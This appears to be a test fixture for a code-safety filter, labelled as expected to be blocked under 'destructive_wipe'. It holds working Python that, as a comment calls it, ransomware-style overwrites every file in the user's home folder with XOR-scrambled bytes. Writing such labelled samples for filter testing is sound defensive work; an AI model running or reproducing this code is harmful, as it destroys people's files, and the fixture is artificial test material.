# expect: BLOCKED category: destructive_wipe
# Ransomware-style: overwrites every file in the home folder with scrambled bytes.
from pathlib import Path

def scramble(data: bytes) -> bytes:
    return bytes(b ^ 0x5A for b in data)

for target in Path.home().rglob("*"):
    if target.is_file():
        target.write_bytes(scramble(target.read_bytes()))
